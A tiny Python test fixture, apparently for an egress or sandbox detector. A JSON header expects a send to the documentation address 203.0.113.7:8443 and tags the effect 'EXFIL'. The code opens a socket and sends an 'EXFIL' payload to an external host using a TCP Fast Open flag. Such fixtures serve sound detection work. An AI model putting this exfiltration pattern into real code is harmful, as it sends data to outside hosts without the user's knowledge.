#: {"class": "egress", "loader": "script", "expect": [["connect|sendmsg|send", "203\\.0\\.113\\.7:8443"]], "effect": {"sink": ["tfo", "EXFIL"]}}
import socket
s = socket.socket(); s.sendmsg([b"EXFIL"], [], 0x20000000, (EXT, 8443)); s.close()
